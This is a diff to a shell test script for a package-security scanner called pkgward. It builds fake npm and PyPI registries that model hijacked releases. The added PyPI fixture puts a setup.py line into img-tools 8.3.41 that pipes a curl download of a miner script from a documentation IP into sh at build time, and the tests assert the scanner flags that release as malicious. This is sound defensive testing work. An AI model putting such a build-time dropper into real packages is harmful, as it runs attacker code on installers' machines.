@@ -26,9 +26,11 @@ export HOME=$WORK/home NO_COLOR=1
 
 # Packuments with integrity computed from the tarballs; the server puts its
 # own address where they say 127.0.0.1:PORT.
-node - "$WORK" <<'EOF' || exit 1
+node - "$WORK" "$SRC" <<'EOF' || exit 1
 const fs = require('fs'), crypto = require('crypto');
 const work = process.argv[2], reg = work + '/reg', ex = work + '/ex';
+// the registry's copy of each manifest matches the tarball's package.json
+const manifest = d => JSON.parse(fs.readFileSync(`${process.argv[3]}/examples/src/${d}/package.json`));
 const sri = b => 'sha512-' + crypto.createHash('sha512').update(b).digest('base64');
 const put = (p, s) => { fs.mkdirSync(require('path').dirname(reg + '/' + p), {recursive: true}); fs.writeFileSync(reg + '/' + p, s); };
 const tgz = f => fs.readFileSync(ex + '/' + f);
@@ -40,8 +42,11 @@ const bad = {name: 'intruder-b', email: 'b@example.invalid'};
 const prov = {url: 'https://example.invalid/attestations', provenance: {predicateType: 'https://slsa.dev/provenance/v1'}};
 const hc140 = tgz('http-client-1.14.0.tgz'), hc141 = tgz('http-client-1.14.1.tgz'), pcj = tgz('plain-crypto-js-4.2.1.tgz');
 function entry(name, v, user, extra, bytes) {
-  const e = Object.assign({name, version: v, _npmUser: user, maintainers: [{name: 'maintainer-a'}],
+  let m = {};
+  try { m = manifest(`${name}-${v}`); } catch (e) { /* no tarball for it */ }
+  const e = Object.assign({}, m, {name, version: v, _npmUser: user, maintainers: [{name: 'maintainer-a'}],
     dist: {tarball: url(name, v), integrity: bytes ? sri(bytes) : 'sha512-AAAA'}}, extra);
+  if (m.dependencies) e.dependencies = m.dependencies;
   return e;
 }
 const hc = {name: 'http-client', 'dist-tags': {latest: '1.14.1'},
@@ -51,9 +56,9 @@ const hc = {name: 'http-client', 'dist-tags': {latest: '1.14.1'},
          '0.30.4': '2026-03-31T00:39:00.000Z'},
   versions: {
     '0.30.3': entry('http-client', '0.30.3', good, {gitHead: 'aaa', dist: {tarball: url('http-client', '0.30.3'), integrity: 'sha512-AAAA', attestations: prov}}),
-    '1.13.0': entry('http-client', '1.13.0', good, {gitHead: 'bbb', dependencies: {'follow-redirects': '^1.15.6'}, dist: {tarball: url('http-client', '1.13.0'), integrity: sri(hc140), attestations: prov}}),
-    '1.14.0': Object.assign(entry('http-client', '1.14.0', good, {gitHead: 'ccc', dependencies: {'follow-redirects': '^1.15.6'}}, hc140), {}),
-    '1.14.1': entry('http-client', '1.14.1', bad, {dependencies: {'follow-redirects': '^1.15.6', 'plain-crypto-js': '^4.2.1'}}, hc141),
+    '1.13.0': entry('http-client', '1.13.0', good, {gitHead: 'bbb', dependencies: manifest('http-client-1.14.0').dependencies, dist: {tarball: url('http-client', '1.13.0'), integrity: sri(hc140), attestations: prov}}),
+    '1.14.0': entry('http-client', '1.14.0', good, {gitHead: 'ccc'}, hc140),
+    '1.14.1': entry('http-client', '1.14.1', bad, {}, hc141),
     '0.30.4': entry('http-client', '0.30.4', bad, {dependencies: {'plain-crypto-js': '^4.2.1'}}),
   }};
 hc.versions['1.14.0'].dist.attestations = prov;
@@ -79,6 +84,36 @@ put('private', '{"error": "forbidden"}'); put('private.status', '403');
 put('flaky', '{}'); put('flaky.status', '503');
 put('loop.location', '/loop');
 EOF
+
+# PyPI: an ultralytics-shaped hijack. img-tools 8.3.41 is 8.3.40 plus a
+# setup.py line that downloads and runs a "miner" (a documentation IP) at
+# build time; the JSON API documents point at sdists served here.
+mk_sdist() { # version setup-extra
+  local d="$WORK/sd/img-tools-$1"
+  mkdir -p "$d/img_tools"
+  printf 'Metadata-Version: 2.1\nName: img-tools\nVersion: %s\nRequires-Dist: numpy>=1.23\n\n' "$1" > "$d/PKG-INFO"
+  printf 'import numpy\n\ndef resize(a):\n    return numpy.asarray(a)\n' > "$d/img_tools/__init__.py"
+  printf 'import os\nfrom setuptools import setup\n%s\nsetup(name="img-tools", version="%s")\n' "$2" "$1" > "$d/setup.py"
+  mkdir -p "$WORK/reg/files"
+  (cd "$WORK/sd" && tar --sort=name --mtime=@0 --owner=0 --group=0 -czf "$WORK/reg/files/img-tools-$1.tar.gz" "img-tools-$1")
+}
+mk_sdist 8.3.40 ''
+mk_sdist 8.3.41 'os.system("curl -s http://192.0.2.44:8000/xmrig.sh | sh")'
+node - "$WORK" <<'EOF2' || exit 1
+const fs = require('fs'), crypto = require('crypto');
+const work = process.argv[2], reg = work + '/reg';
+const file = v => {
+  const b = fs.readFileSync(`${reg}/files/img-tools-${v}.tar.gz`);
+  return {filename: `img-tools-${v}.tar.gz`, packagetype: 'sdist', url: `http://127.0.0.1:PORT/files/img-tools-${v}.tar.gz`,
+          digests: {sha256: crypto.createHash('sha256').update(b).digest('hex')},
+          upload_time_iso_8601: v === '8.3.40' ? '2024-11-20T10:00:00.000000Z' : '2024-12-04T20:00:00.000000Z', yanked: false};
+};
+const put = (p, o) => { fs.mkdirSync(require('path').dirname(`${reg}/${p}`), {recursive: true}); fs.writeFileSync(`${reg}/${p}`, JSON.stringify(o)); };
+const info = v => ({name: 'img-tools', version: v, requires_dist: ['numpy>=1.23']});
+put('pypi/img-tools/json', {info: info('8.3.41'), releases: {'8.3.40': [file('8.3.40')], '8.3.41': [file('8.3.41')]}, urls: [file('8.3.41')]});
+put('pypi/img-tools/8.3.40/json', {info: info('8.3.40'), urls: [file('8.3.40')]});
+put('pypi/img-tools/8.3.41/json', {info: info('8.3.41'), urls: [file('8.3.41')]});
+EOF2
 
 "$HTTPD" "$WORK/reg" "$WORK/port" 300 &
 srv=$!
@@ -123,6 +158,16 @@ expect 0 "$PKGWARD" check --registry "$REG" --cache "$WORK/cache" http-client@1.
 expect 1 "$PKGWARD" check --offline --cache "$WORK/cache" -q http-client@1.14.1
 expect 2 "$PKGWARD" check --offline --cache "$WORK/empty-cache" http-client@1.14.1
 has "$WORK/err" "offline"
+
+# --- PyPI: the build-time dropper is found and the release is malicious -------
+expect 1 "$PKGWARD" check --pypi-registry "$REG" --cache "$WORK/cache" -f json pypi:img-tools==8.3.41
+has "$WORK/out" '"name": "img-tools"'
+has "$WORK/out" '"verdict": "malicious"'
+has "$WORK/out" '"rule": "diff-capability-added"'
+has "$WORK/out" '"rule": "trust-publisher-unknown"'
+expect 0 "$PKGWARD" check --pypi-registry "$REG" --cache "$WORK/cache" -q 'pypi:img-tools==8.3.40'
+# the sdist's sha256 is checked like npm's integrity
+expect 2 "$PKGWARD" check --pypi-registry "$REG" --cache "$WORK/c3" pypi:img-tools==9.9
 
 # --- faults: each a clear error, exit 2 -------------------------------------
 expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" nope@1.0.0 && has "$WORK/err" "HTTP 404"
